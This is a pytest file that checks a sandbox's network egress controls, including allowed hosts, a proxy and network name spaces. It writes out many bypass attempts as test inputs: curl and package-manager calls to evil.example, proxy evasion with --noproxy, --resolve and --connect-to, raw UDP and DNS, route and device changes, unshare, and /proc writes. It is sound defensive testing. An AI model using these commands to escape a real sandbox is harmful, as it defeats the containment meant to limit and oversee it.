"""The network of a sandbox with allowed hosts, seen from inside it.

Each attack is tried with the defence and, where it can be taken out, without.
"""

from __future__ import annotations

import asyncio
import dataclasses
import shutil
import socket
from collections.abc import AsyncIterator, Callable, Sequence
from contextlib import asynccontextmanager
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.tools.index_support import PACKAGE, Index, index
from tests.tools.sandbox_support import (
    alive,
    as_another_user,
    open_folder,
    require_bubblewrap,
    require_root,
    until,
    unused_seconds,
)
from tests.tools.tls_support import Authority, authority, serving
from tools.sandbox.egress import Egress, Host, Visit
from tools.sandbox.probe import Sandbox, probe
from tools.sandbox.runner import Box, CommandResult, Network

pytestmark = [pytest.mark.sandbox, pytest.mark.xdist_group("sandbox")]
assert open_folder  # a fixture

NAME = "pkg.example"
OTHER = "other.example"


async def this_machine(name: str, port: int) -> Sequence[str]:
    """Every name leads here: only the allowed hosts keep names apart."""
    return ["127.0.0.1"]


def leading_here(sandbox: Sandbox, on_visit: Callable[[Visit], None] = lambda _: None) -> Sandbox:
    means = dataclasses.replace(sandbox.gateways, resolve=this_machine, on_visit=on_visit)
    return dataclasses.replace(sandbox, gateways=means)


@dataclass
class World:
    """An index, and commands that may reach it by its name."""

    sandbox: Sandbox
    work: Path
    index: Index

    @property
    def egress(self) -> Egress:
        return Egress((Host(NAME, self.index.port, private=True),))

    @property
    def url(self) -> str:
        return f"https://{NAME}:{self.index.port}"

    async def run(
        self, command: str, network: Network | None = None, seconds: float = 60
    ) -> CommandResult:
        runner = self.sandbox.runner(Box(self.work))
        try:
            return await runner.run(
                command,
                timeout_seconds=seconds,
                network=self.egress if network is None else network,
            )
        finally:
            await runner.kill()

    async def install(self) -> CommandResult:
        """pip, from the index, into a folder of the workspace."""
        return await self.run(
            "python3 -m pip install --disable-pip-version-check --no-cache-dir --retries 0 "
            f"--cert ca.pem --index-url {self.url}/simple --target there {PACKAGE} "
            "&& PYTHONPATH=there python3 -c 'import greeting; greeting.main()'"
        )


@pytest.fixture(scope="module")
def signed(tmp_path_factory: pytest.TempPathFactory) -> Authority:
    return authority(tmp_path_factory.mktemp("tls"), NAME, OTHER)


@asynccontextmanager
async def world_in(work: Path, sandbox: Sandbox, signed: Authority) -> AsyncIterator[World]:
    (work / "ca.pem").write_bytes(signed.trusted)
    async with index(signed) as served:
        yield World(leading_here(sandbox), work, served)


@pytest.fixture
async def world(work: Path, bubblewrap: Sandbox, signed: Authority) -> AsyncIterator[World]:
    async with world_in(work, bubblewrap, signed) as made:
        yield made


async def test_a_package_is_installed_from_an_allowed_name(world: World) -> None:
    result = await world.install()

    assert result.ok, result.stderr
    assert result.stdout.endswith("hello from the index\n")
    assert [(v.target, v.allowed) for v in result.visits] == [(f"{NAME}:{world.index.port}", True)]


async def test_without_allowed_hosts_nothing_is_installed(world: World) -> None:
    result = await world.run(f"curl -sS --cacert ca.pem {world.url}/simple/", network="none")

    assert not result.ok
    assert world.index.requests == []


def test_a_package_is_installed_by_another_user_s_sandbox(
    open_folder: Path, signed: Authority
) -> None:
    require_bubblewrap()
    work = open_folder / "ws"

    async def attempt() -> list[str]:
        sandbox = await probe()
        assert sandbox.name == "bubblewrap", sandbox.problem
        work.mkdir()
        means = dataclasses.replace(sandbox.gateways, python="/usr/bin/python3")
        sandbox = dataclasses.replace(sandbox, gateways=means)
        async with world_in(work, sandbox, signed) as world:
            ok = await world.run(f"curl -sS --cacert ca.pem {world.url}/simple/ -o page")
            evil = await world.run("curl -sS https://evil.example/ -o page2")
            raw = await world.run(f"curl -sS --noproxy '*' http://127.0.0.1:{world.index.port}/")
        return [str(r.exit_code) for r in (ok, evil, raw)] + [ok.stderr, ok.could_not_run]

    assert as_another_user(attempt)[:3] == ["0", "56", "7"]


async def test_a_redirect_to_another_host_is_refused_and_told(
    world: World, signed: Authority
) -> None:
    """With its name allowed too, the same redirect is followed."""
    async with index(signed) as other:
        world.index.elsewhere = f"https://{OTHER}:{other.port}"

        held = await world.install()
        both = Egress((*world.egress.hosts, Host(OTHER, other.port, private=True)))
        fetch = f"curl -sSL --cacert ca.pem {world.url}/files/x -o there"
        followed = await world.run(fetch, both)

        assert not held.ok
        refused = [visit for visit in held.visits if not visit.allowed]
        assert [v.target for v in refused] == [f"{OTHER}:{other.port}"]
        assert followed.ok
        assert other.requests == ["/files/x"]


PYTHON_UDP = (
    "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
    "s.settimeout(1); s.sendto(b'x', ('{address}', {port}))"
)


@pytest.mark.parametrize(
    ("attack", "defence"),
    [
        pytest.param("--cacert ca.pem https://other.example:{p}/", "hosts", id="another name"),
        pytest.param("-k https://127.0.0.1:{p}/", "name space", id="address"),
        pytest.param("-k --noproxy * https://127.0.0.1:{p}/", "name space", id="around the proxy"),
        pytest.param(
            "-k --noproxy * --resolve pkg.example:{p}:127.0.0.1 https://pkg.example:{p}/",
            "name space",
            id="a resolver of its own",
        ),
        pytest.param("-f http://pkg.example:{p}/", "", id="plain http"),
        pytest.param("-k https://pkg.example/", "", id="another port"),
        pytest.param(
            "-k --connect-to pkg.example:{p}:other.example:{p} https://pkg.example:{p}/",
            "",
            id="CONNECT to another name",
        ),
        pytest.param(
            "-k --connect-to other.example:{p}:pkg.example:{p} https://other.example:{p}/",
            "",
            id="TLS for another name",
        ),
    ],
)
async def test_only_the_name_leads_to_the_index(world: World, attack: str, defence: str) -> None:
    """What is attacked is the very machine and port that the name leads to.

    The last ones fail at the proxy itself, whose defences test_proxy.py takes out.
    """
    port = world.index.port
    command = f"set -f; curl -sS --max-time 5 {attack.format(p=port)}"

    held = await world.run(command)
    requests = list(world.index.requests)

    assert not held.ok
    assert requests == []
    if defence:
        more = Egress((*world.egress.hosts, Host(OTHER, port, private=True)))
        broken = await world.run(command, more if defence == "hosts" else "host")
        assert broken.ok, broken.stderr


@pytest.mark.parametrize(
    "attack",
    [
        pytest.param("getent hosts pkg.example", id="resolver"),
        pytest.param(
            f'python3 -c "{PYTHON_UDP.format(address="127.0.0.53", port=53)}; s.recv(9)"', id="dns"
        ),
        pytest.param(f'python3 -c "{PYTHON_UDP.format(address="8.8.8.8", port=53)}"', id="udp"),
        pytest.param("ping -c1 -W1 8.8.8.8", id="ping"),
        pytest.param("curl -sS --max-time 5 --noproxy '*' https://1.1.1.1/", id="tcp"),
        pytest.param("ip route add default via 127.0.0.1", id="a route"),
        pytest.param("ip link add v type veth", id="a device"),
        pytest.param("unshare -Urn true", id="a name space of its own"),
        pytest.param("echo 1 > /proc/sys/net/ipv4/ip_forward", id="a setting of the kernel"),
    ],
)
async def test_there_is_no_other_way_out(world: World, attack: str) -> None:
    assert not (await world.run(attack)).ok


async def test_servers_of_the_node_are_out_of_reach(world: World) -> None:
    """With the node's network they answer, so it is the name space that keeps them away."""

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\nConnection: close\r\n\r\nhere")
        await writer.drain()

    abstract = f"\0foreman-test-{unused_seconds()}"
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(abstract)
        listener.listen()
        async with serving(answer, None) as port:
            tcp = f"curl -sS --noproxy '*' http://127.0.0.1:{port}/"
            unix = (
                'python3 -c "import socket; s = socket.socket(socket.AF_UNIX); '
                f"s.connect('\\0' + '{abstract[1:]}'); print('here', end='')\""
            )
            held = [await world.run(attack) for attack in (tcp, unix)]
            broken = [await world.run(attack, "host") for attack in (tcp, unix)]

    assert [result.stdout for result in held] == ["", ""]
    assert [result.stdout for result in broken] == ["here", "here"]


async def test_nothing_of_proc_but_own_processes_is_writable(world: World) -> None:
    find = "find /proc -path '/proc/[0-9]*' -prune -o -type f -writable -print"

    assert (await world.run(find)).stdout == (await world.run(find, "none")).stdout


async def test_root_s_name_space_gives_root_no_power_over_it(world: World) -> None:
    """The holder's uid 0 would own the settings of its network."""
    require_root()
    result = await world.run("grep -q '^CapEff:[[:space:]]*0*$' /proc/self/status && id -u")

    assert result.stdout == "1000\n"


async def test_what_was_asked_for_is_told_as_it_happens(world: World) -> None:
    heard: list[Visit] = []
    world.sandbox = leading_here(world.sandbox, heard.append)

    result = await world.run("for i in 1 2 3; do curl -s https://evil.example/; done; true")

    assert heard == [Visit("evil.example:443", "not among the allowed hosts")]
    assert result.visits == (Visit("evil.example:443", "not among the allowed hosts", times=3),)


async def test_commands_side_by_side_have_networks_of_their_own(world: World) -> None:
    server = "python3 -m http.server 8000 --bind 127.0.0.1 >/dev/null 2>&1 & "
    first = f"{server} for i in $(seq 100); do curl -s --noproxy '*' -o x http://127.0.0.1:8000/ && break; done; touch ready; sleep 1; echo ok"
    second = (
        "while [ ! -e ready ]; do sleep 0.05; done; curl -s --noproxy '*' http://127.0.0.1:8000/"
    )
    runner = world.sandbox.runner(Box(world.work))

    results = await asyncio.gather(
        *(runner.run(c, timeout_seconds=30, network=world.egress) for c in (first, second))
    )
    await runner.kill()

    assert [result.exit_code for result in results] == [0, 7]


async def test_a_killed_command_leaves_nothing_behind(world: World) -> None:
    seconds = unused_seconds()
    runner = world.sandbox.runner(Box(world.work))
    before, others = set(Path("/proc/self/fd").iterdir()), set(own_children())

    async with asyncio.TaskGroup() as tasks:
        running = tasks.create_task(
            runner.run(f"sleep {seconds}", timeout_seconds=60, network=world.egress)
        )
        assert await until(lambda: bool(alive(seconds)))
        children = set(own_children()) - others
        await runner.kill()
        left = alive(seconds) + [pid for pid in children if pid in own_children()]
        await running

    assert left == []
    assert set(Path("/proc/self/fd").iterdir()) <= before


async def test_a_cancelled_command_leaves_nothing_behind(world: World) -> None:
    seconds = unused_seconds()
    runner = world.sandbox.runner(Box(world.work))

    others = set(own_children())  # servers that other tests of this process share

    async def run() -> None:
        await runner.run(f"sleep {seconds}", timeout_seconds=60, network=world.egress)

    running = asyncio.ensure_future(run())
    assert await until(lambda: bool(alive(seconds)))
    running.cancel()
    with pytest.raises(asyncio.CancelledError):
        await running

    assert alive(seconds) == []
    assert set(own_children()) <= others


def own_children() -> list[int]:
    found = []
    for thread in Path("/proc/self/task").iterdir():
        found += [int(word) for word in (thread / "children").read_text().split()]
    return found


async def test_where_no_name_space_can_be_entered_the_command_does_not_run(world: World) -> None:
    means = dataclasses.replace(world.sandbox.gateways, nsenter="")
    world.sandbox = dataclasses.replace(world.sandbox, gateways=means)

    result = await world.run("touch ran")

    assert result.could_not_run == "egress: nsenter: not found; install util-linux"
    assert not (world.work / "ran").exists()


async def test_where_no_name_space_can_be_made_it_is_told(world: World) -> None:
    means = dataclasses.replace(world.sandbox.gateways, bubblewrap="/bin/false")
    world.sandbox = dataclasses.replace(world.sandbox, gateways=means)

    result = await world.run("touch ran")

    assert result.could_not_run.startswith("egress: no network name space can be made")


async def test_without_a_sandbox_the_proxy_is_only_recommended(
    work: Path, plain: Sandbox, signed: Authority
) -> None:
    async with world_in(work, plain, signed) as world:
        heeded = await world.run("curl -sS https://evil.example/")
        served = await world.run(f"curl -sS --cacert ca.pem {world.url}/simple/")
        around = await world.run(
            f"curl -sSk --noproxy '*' --resolve {NAME}:{world.index.port}:127.0.0.1 {world.url}/simple/"
        )

    assert [heeded.exit_code, served.exit_code, around.exit_code] == [56, 0, 0]
    assert "only recommended" in plain.description


CARGO = (
    "mkdir -p p/.cargo p/src && touch p/src/lib.rs && cd p && "
    'printf \'[package]\\nname = "p"\\nversion = "0.1.0"\\nedition = "2021"\\n'
    '[dependencies]\\na = "1"\\n\' > Cargo.toml && '
    'printf \'[source.crates-io]\\nreplace-with = "x"\\n[source.x]\\n'
    'registry = "sparse+https://evil.example/i/"\\n[net]\\nretry = 0\\n\' > .cargo/config.toml && '
    "cargo fetch"
)


@pytest.mark.parametrize(
    ("tool", "command"),
    [
        pytest.param(
            "pip", "python3 -m pip download --retries 0 -i https://evil.example/s a", id="pip"
        ),
        pytest.param(
            "npm", "npm view a --registry https://evil.example/ --fetch-retries=0", id="npm"
        ),
        pytest.param("cargo", CARGO, id="cargo"),
        pytest.param(
            "go",
            "GOSUMDB=off GOPROXY=https://evil.example go mod download a.example/b@v1.0.0",
            id="go",
        ),
        pytest.param("git", "git ls-remote https://evil.example/x.git", id="git"),
        pytest.param("wget", "wget -q -O - https://evil.example/", id="wget"),
    ],
)
async def test_package_managers_ask_the_proxy(world: World, tool: str, command: str) -> None:
    if not shutil.which(tool, path=world.sandbox.toolchain.search_path):
        pytest.skip(f"{tool}: not on this machine")

    result = await world.run(command, seconds=90)

    assert not result.ok
    assert {visit.target for visit in result.visits} == {"evil.example:443"}, result.stderr
